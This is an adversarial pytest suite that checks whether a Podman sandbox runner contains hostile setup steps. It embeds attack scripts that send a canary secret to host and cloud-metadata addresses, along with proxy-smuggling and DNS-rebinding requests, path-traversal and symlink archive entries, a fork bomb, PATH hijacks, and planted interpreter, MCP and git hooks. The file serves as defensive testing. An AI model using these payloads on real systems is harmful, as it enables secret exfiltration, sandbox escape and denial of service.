"""Attacks from within a setup, the only step with a network, on real Podman; named by their rows."""

import asyncio
import os
import socket
import textwrap
from pathlib import Path

import pytest

from services.kit.embedded import EmbeddedNats
from services.sandbox_runner.egress import Policy, Target
from services.sandbox_runner.repository_settings import RepositorySettings
from services.sandbox_runner.setup_rules import Rules
from tests.adversarial.conftest import Trap
from tests.integration.sandbox_kit import git
from tests.integration.setup_kit import Yard, left_behind

pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.timeout(600)]

CANARY = "ghs_canary0123456789canary0123456789"

PROBE = r"""
import socket, sys
PORT, OWN, PODMAN = int(sys.argv[1]), sys.argv[2].split(","), sys.argv[3]
SECRET = open("/workspace/secret").read().encode()

def tell(what, reached):
    print(what, "REACHED" if reached else "no")

def tcp(family, address):
    with socket.socket(family) as s:
        s.settimeout(2)
        s.connect(address)
        s.sendall(SECRET)
    return True

def attempt(what, do):
    try:
        tell(what, do())
    except OSError:
        tell(what, False)

for address in [*OWN, "10.0.2.2", "169.254.169.254"]:
    attempt(f"tcp {address}", lambda: tcp(socket.AF_INET, (address, PORT)))
attempt("imds", lambda: tcp(socket.AF_INET, ("169.254.169.254", 80)))
for address in ("::1", "fe80::1", "fd00::2"):
    attempt(f"tcp6 {address}", lambda: tcp(socket.AF_INET6, (address, PORT)))
attempt("dns", lambda: socket.getaddrinfo("x.trap.example", 80))
def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        for address in OWN:
            if address != "127.0.0.1":  # loopback is the sandbox's own
                s.sendto(SECRET, (address, PORT))
                return True
    return False
attempt("udp", udp)
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, PORT)) is None)
def podman():
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(PODMAN)
    return True
attempt("podman", podman)

def proxy(what, data, then=b""):
    with socket.create_connection(("127.0.0.1", 3128), 5) as s:
        s.sendall(data)
        answer = s.recv(4096).split(b"\r\n")[0]
        if b" 200 " in answer and then:
            s.sendall(then)
            try:
                answer = b"after: " + s.recv(4096)
            except OSError:
                answer = b"after: "
    tell(f"proxy {what}", answer.startswith(b"HTTP/1.1 200") or answer not in (b"", b"after: ")
         and answer.startswith(b"after: "))

def connect(target, more=""):
    return f"CONNECT {target} HTTP/1.1\r\n{more}\r\n".encode()

for address in OWN:
    proxy(f"address {address}", connect(f"{address}:{PORT}"))
proxy("ipv6", connect(f"[::1]:{PORT}"))
proxy("number", connect(f"2130706433:{PORT}"))
proxy("metadata", connect("169.254.169.254:80"))
proxy("user", connect(f"allowed.example:443@127.0.0.1:{PORT}"))
proxy("rebinding", connect("rebind.example:443"))
proxy("both", connect("both.example:443"))
proxy("ssh", connect("allowed.example:22"))
proxy("unlisted", connect("trap.example:443"))
proxy("below", connect("x.allowed.example:443"))
proxy("plain", f"GET http://127.0.0.1:{PORT}/ HTTP/1.1\r\n\r\n".encode())
proxy("smuggled", connect(f"mirror.example:{PORT}") + SECRET)
proxy("body", connect(f"mirror.example:{PORT}", f"Content-Length: {len(SECRET)}\r\n") + SECRET)
proxy("no tls", connect(f"mirror.example:{PORT}"), then=b"GET /?" + SECRET + b" HTTP/1.1\r\n\r\n")
proxy("long", b"CONNECT " + b"a" * 100_000)
"""


async def look_up(host: str, _: int) -> list[str]:
    """Names that somebody hostile could have made lead inside."""
    return ["8.8.4.4", "127.0.0.1"] if host == "both.example" else ["127.0.0.1"]


async def test_a09_nothing_is_reached_during_a_setup_that_is_not_allowed(
    place: Yard, trap: Trap, tmp_path: Path
) -> None:
    source = await place.source({"secret": CANARY, "probe.py": PROBE})
    policy = Policy(
        hosts=frozenset(map(Target, ("allowed.example", "rebind.example", "both.example"))),
        mirrors=frozenset({Target("mirror.example", trap.port)}),
    )
    podman = place.host.api.url.removeprefix("unix://")
    probe = f"python3 probe.py {trap.port} {','.join(trap.addresses)} {podman}"
    async with EmbeddedNats(tmp_path / "nats") as nats:
        port = nats.url.rpartition(":")[2].strip("/")
        others = f"python3 probe.py {port} 127.0.0.1 /run/podman/podman.sock"
        order = place.order(source, probe, others, "exit 1", policy=policy)
        stored = await place.setups(look_up=look_up).ensure(order)
    assert "REACHED" not in stored.report.output
    assert stored.report.output.count("proxy long no") == 2
    # the tunnel to the operator's own mirror is opened, and closed at the first byte that is not TLS for it
    assert (trap.received, stored.report.reached) == (b"", ())
    told = {(blocked.target, blocked.why) for blocked in stored.report.blocked}
    inside, unlisted = "the name leads to an address that is not public", "the host is not on the list"
    assert told >= {
        (f"127.0.0.1:{trap.port}", "an address instead of a name"),
        ("169.254.169.254:80", "an address instead of a name"),
        (f"127.0.0.1:{trap.port}", "a target with a user"),
        ("rebind.example", inside),
        ("both.example", inside),
        ("allowed.example:22", "port 22 is not allowed"),
        ("trap.example", unlisted),
        ("x.allowed.example", unlisted),
    }
    assert left_behind(place.directory) == []
    await asyncio.to_thread(_fall_into, trap)


def _fall_into(trap: Trap) -> None:
    """What is sent to the trap without a sandbox is caught, so its silence before means something."""
    with socket.create_connection(("127.0.0.1", trap.port), 5) as client:
        client.sendall(b"caught")
        client.shutdown(socket.SHUT_WR)
        client.recv(1)
    assert trap.received == b"caught"


async def test_a09_the_way_out_is_gone_before_anything_is_taken_out(place: Yard, trap: Trap) -> None:
    """A process that the setup leaves behind keeps asking; what it asks for afterwards reaches nobody."""
    asking = f"""
import socket, time
while True:
    try:
        with socket.socket(socket.AF_UNIX) as s:
            s.connect("/run/setup/proxy")
            s.sendall(b"CONNECT mirror.example:{trap.port} HTTP/1.1\\r\\n\\r\\n")
            open("/tmp/said", "ab").write(s.recv(100)[:12] + b"\\n")
    except OSError:
        open("/tmp/gone", "w").close()
    time.sleep(0.05)
"""
    source = await place.source({"asking.py": asking})
    policy = Policy(mirrors=frozenset({Target("mirror.example", trap.port)}))
    # A program of that name runs when the result is taken: it waits for the way out to be gone, then fails.
    waiting = (
        "mkdir -p /deps/bin; printf '%s\\n' '#!/bin/bash'"
        " 'for _ in $(seq 100); do [ -e /tmp/gone ] && break; sleep 0.1; done'"
        " 'ls /tmp/gone /run/setup; exit 3' > /deps/bin/python3; chmod +x /deps/bin/python3"
    )
    begin = (
        "/usr/bin/python3 asking.py >/dev/null 2>&1 &"
        " for _ in $(seq 100); do [ -s /tmp/said ] && break; sleep 0.1; done"
    )
    order = place.order(source, begin, waiting, policy=policy)
    stored = await place.setups(look_up=look_up).ensure(order)
    assert not stored.report.ok
    assert "/tmp/gone" in stored.report.output  # noqa: S108  a path inside the sandbox
    assert "proxy" not in stored.report.output.partition("/run/setup")[2]
    assert trap.received == b""


async def test_a10_install_scripts_do_not_run_unless_the_base_branch_and_the_operator_want_it(
    place: Yard,
) -> None:
    package = '{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "touch /deps/ran"}}'
    source = await place.source(
        {
            "package.json": '{"name": "y", "version": "1.0.0", "dependencies": {"x": "file:./x"}}',
            "x/package.json": package,
        }
    )
    command = "npm install --offline --no-audit --no-fund --install-links && ls node_modules && ls /deps"
    wanted = RepositorySettings(install_scripts=True)
    off = await place.setups().ensure(place.order(source, command))
    forbidden = await place.setups(Rules(scripts=False)).ensure(place.order(source, command, settings=wanted))
    on = await place.setups().ensure(place.order(source, command, settings=wanted))
    assert [stored.report.ok for stored in (off, forbidden, on)] == [True] * 3, on.report.output
    assert ["ran" in stored.top for stored in (off, forbidden, on)] == [False, False, True]


HOSTILE = r"""
import socket, struct, sys
ENTRY = struct.Struct(">cHqHQ")
def entry(kind, path, content=b"", mode=0o644, size=None):
    return ENTRY.pack(kind, mode, 0, len(path), len(content) if size is None else size) + path + content
WHAT = {
    "parent": entry(b"f", b"../../escaped", b"x"),
    "absolute": entry(b"f", b"/tmp/escaped", b"x"),
    "middle": entry(b"d", b"a") + entry(b"f", b"a/../../escaped", b"x"),
    "through a link": entry(b"l", b"out", b"HOST") + entry(b"f", b"out/escaped", b"x"),
    "a link replaced": entry(b"l", b"canary", b"HOST/canary") + entry(b"f", b"canary", b"x"),
    "chain": b"".join(entry(b"l", b"l%d" % n, b"l%d/" % (n + 1) * 1000) for n in range(100))
        + entry(b"f", b"l0/escaped", b"x"),
    "device": entry(b"c", b"device"),
    "hard link": entry(b"h", b"hard", b"HOST/canary"),
    "many": b"".join(entry(b"d", b"d%d" % n) for n in range(3000)),
    "sparse": entry(b"f", b"sparse", size=2**62),
    "long": entry(b"f", b"a" * 5000),
    "null": entry(b"f", b"a\0b"),
    "cut": entry(b"f", b"cut", b"x" * 10, size=1000),
    "setuid": entry(b"f", b"setuid", b"x", mode=0o6755) + ENTRY.pack(b"e", 0, 0, 0, 0),
}
with socket.socket(socket.AF_UNIX) as s:
    s.connect("/run/setup/deps")
    try:
        s.sendall(WHAT[sys.argv[1]].replace(b"HOST", b"HOST"))
        s.shutdown(socket.SHUT_WR)
        print(s.recv(1000).decode())
    except OSError:
        pass
"""


@pytest.mark.parametrize(
    "what",
    [
        *("parent", "absolute", "middle", "through a link", "a link replaced", "chain", "device"),
        *("hard link", "many", "sparse", "long", "null"),
    ],
)
async def test_a17_what_a_hostile_sandbox_hands_out_is_refused_entry_by_entry(
    place: Yard, what: str, tmp_path: Path
) -> None:
    canary = tmp_path / "canary"
    canary.write_text(CANARY)
    source = await place.source({"hostile.py": HOSTILE.replace("HOST", str(tmp_path))})
    # Our own packing program is started by this name; the setup has put itself in its place.
    hijack = (
        "mkdir -p /deps/bin; printf '%s\\n' '#!/bin/bash'"
        f" 'exec /usr/bin/python3 /workspace/hostile.py \"{what}\"' > /deps/bin/python3;"
        " chmod +x /deps/bin/python3"
    )
    stored = await place.setups().ensure(place.order(source, hijack))
    assert not stored.report.ok
    assert stored.tree is None
    assert canary.read_text() == CANARY
    assert os.listdir(tmp_path) == ["canary"]  # noqa: PTH208
    assert not list(place.directory.rglob("escaped"))
    assert left_behind(place.directory) == []


async def test_a17_modes_that_give_rights_are_dropped(place: Yard) -> None:
    source = await place.source({"hostile.py": HOSTILE})
    hijack = (
        "mkdir -p /deps/bin; printf '%s\\n' '#!/bin/bash'"
        " 'exec /usr/bin/python3 /workspace/hostile.py setuid' > /deps/bin/python3;"
        " chmod +x /deps/bin/python3"
    )
    stored = await place.setups().ensure(place.order(source, hijack))
    assert stored.tree is not None
    assert (stored.tree / "setuid").stat().st_mode & 0o7777 == 0o755


async def test_a42_what_a_setup_left_is_read_only_and_no_other_repository_sees_it(place: Yard) -> None:
    first = await place.source({"a": "1"})
    second = await place.source({"a": "1"})
    command = "mkdir /deps/bin; date +%N > /deps/bin/mine"
    setups = place.setups()
    mine = await setups.ensure(place.order(first, command))
    async with place.open(first, mine) as box:
        poison = await box.bash(
            "echo poisoned > /deps/bin/mine; rm -f /deps/bin/mine; mv /deps/bin /deps/x;"
            " mount -o remount,rw /deps; cat /deps/bin/mine"
        )
    again = await setups.ensure(place.order(first, command))
    assert (again.report.cached, again.tree) == (True, mine.tree)
    assert poison.content.count("Read-only file system") == 3
    assert again.tree is not None
    assert (again.tree / "bin/mine").read_text() in poison.content
    other = await setups.ensure(place.order(second, command))
    assert other.tree is not None
    assert not other.report.cached
    assert (other.tree / "bin/mine").read_text() != (again.tree / "bin/mine").read_text()


async def test_a36_a_setup_that_takes_everything_ends_within_its_bounds(place: Yard) -> None:
    source = await place.source({"a": "1"})
    rules = Rules(seconds=20.0, memory=1024 * 1024 * 1024)
    for command in (
        "head -c 5000000000 /dev/zero > /deps/big",
        "python3 -c \"x = b'x' * 3 * 1024**3\"",
        ":(){ :|:& };: ; sleep 100",
        "sleep inf",
    ):
        stored = await place.setups(rules).ensure(place.order(source, command))
        assert not stored.report.ok, command
        assert stored.report.seconds < 90
    assert await place.host.list_orphans(set()) == []
    assert left_behind(place.directory) == []


async def test_a30_what_the_repository_plants_for_interpreters_does_not_touch_the_harness(
    place: Yard, tmp_path: Path
) -> None:
    marker = tmp_path / "marker"
    planted = f"open({str(marker)!r}, 'w').close()\n"
    source = await place.source(
        {
            "sitecustomize.py": planted,
            "usercustomize.py": planted,
            "x.pth": f"import os; {planted}",
            ".env": "ANTHROPIC_BASE_URL=http://trap.example\nMILLRACE_NATS_URL=nats://trap.example\n",
            ".mcp.json": '{"mcpServers": {"x": {"command": "touch", "args": ["%s"]}}}' % marker,  # noqa: UP031
            ".claude/settings.json": "{}",
            ".npmrc": "registry=https://trap.example/\nignore-scripts=false\n",
            "pip.conf": "[global]\nindex-url = https://trap.example/simple\n",
        }
    )
    stored = await place.setups().ensure(place.order(source, "env | sort; mkdir /deps/bin"))
    assert stored.report.ok
    assert "trap.example" not in stored.report.output
    assert not marker.exists()


async def test_a15_the_base_branchs_git_settings_fire_nothing_on_the_host(
    place: Yard, tmp_path: Path
) -> None:
    marker = tmp_path / "marker"
    source = await place.source({".gitattributes": "* filter=x diff=t\n", "a": "1"})
    hooks = textwrap.dedent(f"""
        git config core.fsmonitor "touch {marker}"; git config filter.x.clean "touch {marker}"
        printf '#!/bin/sh\\ntouch {marker}\\n' > .git/hooks/post-checkout || true
        mkdir -p /deps/.git/hooks; printf '[core]\\n\\tfsmonitor = touch {marker}\\n' > /deps/.git/config
        echo x > generated.txt
    """)
    stored = await place.setups().ensure(place.order(source, hooks))
    assert stored.report.ok
    async with place.open(source, stored) as box:
        seen = await box.bash("cat generated.txt; git status --short")
        change = await box.sandbox.checkpoint(source.base)
    assert seen.content == "x\n"  # it is there, and not a part of any change
    assert change.empty
    assert not marker.exists()
    assert git(source.directory, "status", "--short") == ""


async def test_two_that_want_the_same_setup_share_one(place: Yard) -> None:
    source = await place.source({"a": "1"})
    order = place.order(source, "sleep 1; date +%N > /deps/when")
    one, other = await asyncio.gather(place.setups().ensure(order), place.setups().ensure(order))
    assert one.tree == other.tree
    assert sorted([one.report.cached, other.report.cached]) == [False, True]
